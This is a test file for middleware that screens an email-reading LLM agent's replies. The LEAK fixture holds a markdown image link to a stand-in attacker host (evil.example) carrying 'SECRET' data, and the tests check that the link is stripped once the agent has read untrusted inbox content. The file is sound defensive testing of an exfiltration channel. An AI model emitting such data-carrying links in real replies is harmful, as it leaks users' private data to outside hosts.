import type { CreateOsoOptions } from '@oso-agents/core';
import { AIMessage, HumanMessage, type BaseMessage } from '@langchain/core/messages';
import { FakeStreamingChatModel } from '@langchain/core/utils/testing';
import { MemorySaver } from '@langchain/langgraph';
import { createAgent } from 'langchain';
import { describe, expect, it } from 'vitest';
import { osoMiddleware, withOso } from './index.js';
import { MAIL_CAPABILITIES, mailOso, mailTools, scriptedModel, type ScriptStep, type ToolLog } from './mail-scenario.fixture.js';

const LEAK = 'One mail. ![x](https://evil.example/p?d=SECRET) Chart: ![chart](https://cdn.acme.com/c.png?week=12)';
const SHOWN = 'One mail. [image removed: evil.example] x Chart: ![chart](https://cdn.acme.com/c.png?week=12)';
const READ_THEN_LEAK: ScriptStep[] = [{ calls: [{ id: 'call_inbox', name: 'read_inbox', args: {} }] }, { text: LEAK }];

function agentFor(script: ScriptStep[], wiring: 'middleware' | 'withOso', detection: CreateOsoOptions['detection'] = {}) {
  const log: ToolLog = { executed: [] };
  const oso = mailOso({ outputAllowlist: ['*.acme.com'], detection });
  const tools = Object.values(mailTools(log));
  const checkpointer = new MemorySaver();
  const agent =
    wiring === 'withOso'
      ? withOso(createAgent({ model: scriptedModel(script), tools, checkpointer }), { oso, capabilities: MAIL_CAPABILITIES })
      : createAgent({ model: scriptedModel(script), tools, checkpointer, middleware: [osoMiddleware({ oso, capabilities: MAIL_CAPABILITIES })] });
  return { agent, oso };
}

const ask = { messages: [new HumanMessage('Summarise my inbox')] };
const thread = (id: string) => ({ configurable: { thread_id: id } });

function lastText(messages: readonly BaseMessage[]): unknown {
  const last = messages.at(-1);
  return last && AIMessage.isInstance(last) ? last.content : undefined;
}

async function toUser(oso: ReturnType<typeof mailOso>, sessionId: string): Promise<unknown[]> {
  return (await oso.session(sessionId).timeline()).flatMap((event) => (event.type === 'message_to_user' ? [event.content] : []));
}

describe('osoMiddleware screens the model reply (output_exfiltration)', () => {
  for (const wiring of ['middleware', 'withOso'] as const) {
    it(`${wiring}: strips a data-carrying image to an outside host, keeps the allowlisted one (invoke)`, async () => {
      const { agent, oso } = agentFor(READ_THEN_LEAK, wiring);
      const result = await agent.invoke(ask, thread(`leak-${wiring}`));
      expect(lastText(result.messages)).toBe(SHOWN);
      expect(await toUser(oso, `leak-${wiring}`)).toEqual([SHOWN]);
    });
  }

  it('screens the reply in every stream mode: the messages stream never shows the raw text', async () => {
    const { agent } = agentFor(READ_THEN_LEAK, 'middleware');
    const seen: string[] = [];
    let finalState: BaseMessage[] = [];
    for await (const [mode, chunk] of await agent.stream(ask, { ...thread('leak-stream'), streamMode: ['messages', 'values'] })) {
      if (mode === 'messages') {
        const [message] = chunk as [BaseMessage, unknown];
        seen.push(message.text);
      } else {
        finalState = (chunk as { messages: BaseMessage[] }).messages;
      }
    }
    expect(seen.join('\n')).not.toContain('evil.example/p');
    expect(seen).toContain(SHOWN);
    expect(lastText(finalState)).toBe(SHOWN);
  });

  it('keeps a token-streaming model\'s tokens out of the messages stream only while the session could leak', async () => {
    const oso = mailOso({ outputAllowlist: ['*.acme.com'] });
    const checkpointer = new MemorySaver();
    const tools = Object.values(mailTools({ executed: [] }));
    const middleware = [osoMiddleware({ oso, capabilities: MAIL_CAPABILITIES })];
    const streamedTexts = async (threadId: string) => {
      const streaming = new FakeStreamingChatModel({ sleep: 0, responses: [new AIMessage(LEAK)] });
      const agent = createAgent({ model: streaming, tools, checkpointer, middleware });
      const texts: string[] = [];
      for await (const [message] of await agent.stream(ask, { ...thread(threadId), streamMode: 'messages' })) texts.push(message.text);
      return texts;
    };
    // A clean session: the model's tokens stream as they come.
    const clean = await streamedTexts('tokens-clean');
    expect(clean.length).toBeGreaterThan(10);
    expect(clean.join('')).toBe(LEAK);
    // The same thread after a turn that read the inbox (untrusted content and private data).
    const reader = createAgent({ model: scriptedModel([READ_THEN_LEAK[0]!, { text: 'Read.' }]), tools, checkpointer, middleware });
    await reader.invoke(ask, thread('tokens-exposed'));
    const exposed = await streamedTexts('tokens-exposed');
    expect(exposed).toEqual([SHOWN]);
  });

  it('screens text blocks of a reply whose content is a list of blocks', async () => {
    const model = scriptedModel([READ_THEN_LEAK[0]!]).respond(
      new AIMessage({ id: 'reply-blocks', content: [{ type: 'text', text: LEAK }, { type: 'text', text: 'Bye.' }] }),
    );
    const oso = mailOso({ outputAllowlist: ['*.acme.com'] });
    const blocksAgent = createAgent({
      model,
      tools: Object.values(mailTools({ executed: [] })),
      middleware: [osoMiddleware({ oso, capabilities: MAIL_CAPABILITIES })],
    });
    const result = await blocksAgent.invoke(ask, thread('leak-blocks'));
    expect(lastText(result.messages)).toEqual([
      { type: 'text', text: SHOWN },
      { type: 'text', text: 'Bye.' },
    ]);
  });

  it('leaves the reply untouched in a session without untrusted content and private data', async () => {
    const script: ScriptStep[] = [{ calls: [{ id: 'call_add', name: 'calculator', args: { a: 1, b: 2 } }] }, { text: LEAK }];
    const { agent, oso } = agentFor(script, 'middleware');
    const result = await agent.invoke(ask, thread('clean'));
    expect(lastText(result.messages)).toBe(LEAK);
    expect(await toUser(oso, 'clean')).toEqual([LEAK]);
  });

  it("only reports under outputExfiltration: 'alert': the reply is shown and recorded as the model wrote it", async () => {
    const { agent, oso } = agentFor(READ_THEN_LEAK, 'withOso', { outputExfiltration: 'alert' });
    const result = await agent.invoke(ask, thread('alert'));
    expect(lastText(result.messages)).toBe(LEAK);
    expect(await toUser(oso, 'alert')).toEqual([LEAK]);
    // The run itself left the finding in the timeline.
    const findings = (await oso.session('alert').timeline()).filter((event) => event.type === 'output_screened');
    expect(findings).toMatchObject([{ stripped: false, violation: { rule: 'output_exfiltration' } }]);
    // The finding itself, as the engine gives it to whoever asks.
    const screened = await oso.session('alert').screenMessage(LEAK);
    expect(screened.content).toBe(LEAK);
    expect(screened.violation?.rule).toBe('output_exfiltration');
    expect(screened.violation?.enforcement).toBe('ignore');
  });
});
